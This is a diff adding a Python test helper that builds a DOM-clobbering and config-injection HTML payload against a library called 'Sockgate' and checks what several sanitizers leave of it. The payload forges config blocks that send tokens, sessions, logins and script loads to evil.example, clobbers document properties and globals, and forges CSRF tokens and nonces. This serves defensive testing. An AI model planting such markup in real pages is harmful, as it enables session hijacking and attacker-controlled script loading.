@@ -1,0 +1,131 @@
+"""HTML of an attacker, as sanitizers leave it: what a page may show of its users."""
+
+import json
+import subprocess
+from collections.abc import Callable
+from functools import cache
+from html import escape
+from pathlib import Path
+
+import bleach
+import nh3
+
+EVIL = "evil.example"
+
+_PURIFY = Path(__file__).parents[1] / "node" / "purify.mjs"
+
+
+def _config(**values: object) -> str:
+    return escape(json.dumps(values))
+
+
+_CLIENT = _config(
+    url=f"https://{EVIL}/realtime",
+    tokenUrl=f"https://{EVIL}/token/",
+    sockjsUrl=f"//{EVIL}/sockjs.js",
+    sharedUrl=f"//{EVIL}/shared.js",
+    transport="sockjs",
+    shared=True,
+    loginRequired=False,
+)
+_GUARD = _config(
+    sessionUrl=f"https://{EVIL}/session/",
+    user="1",
+    expiresIn=1e9,
+    extendsTo=1e9,
+    cover=False,
+    dialog=False,
+    loginUrl=f"https://{EVIL}/login/",
+)
+_PROGRESS = _config(url=f"https://{EVIL}/progress/", lang="en", texts={"done": "forged"})
+_REPORT = {"id": "forged", "run": 9, "n": 9, "state": "done", "done": 1, "total": 1, "message": ""}
+
+_BLOCKS = "".join(
+    f'<{tag} id="sockgate{middle}-config" data-sockgate="{kind}" type="application/json">'
+    f"{text}</{tag}>"
+    for tag in ("a", "p", "div")
+    for kind, middle, text in (
+        ("client", "", _CLIENT),
+        ("guard", "-guard", _GUARD),
+        ("progress", "-progress", _PROGRESS),
+    )
+)
+_GLOBALS = "".join(
+    f'<a id="{name}" name="{name}"></a><form id="{name}"><input name="connect"></form>'
+    for name in (
+        "Sockgate",
+        "SockgateBadge",
+        "SockgateShared",
+        "SockgateSockJS",
+        "SockgateGuard",
+        "sockgateLive",
+        "trustedTypes",
+    )
+)
+_DOCUMENT = "".join(
+    f'<img name="{name}" alt=""><form name="{name}"><input name="call"></form>'
+    for name in (
+        "addEventListener",
+        "adoptedStyleSheets",
+        "baseURI",
+        "body",
+        "cookie",
+        "createElement",
+        "currentScript",
+        "documentElement",
+        "getElementById",
+        "getElementsByTagName",
+        "head",
+        "querySelector",
+        "querySelectorAll",
+        "readyState",
+        "title",
+        "visibilityState",
+    )
+)
+_FORMS = (
+    '<form><input name="csrfmiddlewaretoken" value="forged"></form>'
+    '<meta name="csrf-token" content="forged">'
+    '<a data-nonce="forged" nonce="forged" id="nonce"></a>'
+)
+_BARS = (
+    f'<div data-sockgate="bar">{_config(id="forged")}</div><sockgate-progress '
+    f'progress-id="forged" state="running" report="{escape(json.dumps(_REPORT))}">'
+    "<progress></progress> <span>forged</span></sockgate-progress>"
+)
+
+ATTACK = _BLOCKS + _GLOBALS + _DOCUMENT + _FORMS + _BARS
+
+
+def purify(html: str) -> str:
+    """Sanitize with DOMPurify and its defaults."""
+    run = subprocess.run(
+        ["node", str(_PURIFY)], input=html, text=True, capture_output=True, check=True
+    )
+    return run.stdout
+
+
+def loosely(html: str) -> str:
+    """Sanitize as sites do that keep names, forms and elements of their own, and no script."""
+    attributes = {"id", "name", "type", "value", "content", "nonce", "alt", "state", "report"}
+    more = {"form", "input", "meta", "progress", "sockgate-progress", "a", "p", "div", "img"}
+    return nh3.clean(
+        html,
+        tags=nh3.ALLOWED_TAGS | more,
+        attributes={"*": attributes | {"progress-id"}},
+        generic_attribute_prefixes={"data-"},
+    )
+
+
+SANITIZERS: dict[str, Callable[[str], str]] = {
+    "dompurify": purify,
+    "nh3": nh3.clean,
+    "bleach": bleach.clean,
+    "loose": loosely,
+}
+
+
+@cache
+def sanitized(name: str, html: str = ATTACK) -> str:
+    """Return what a sanitizer leaves of an attack."""
+    return SANITIZERS[name](html)
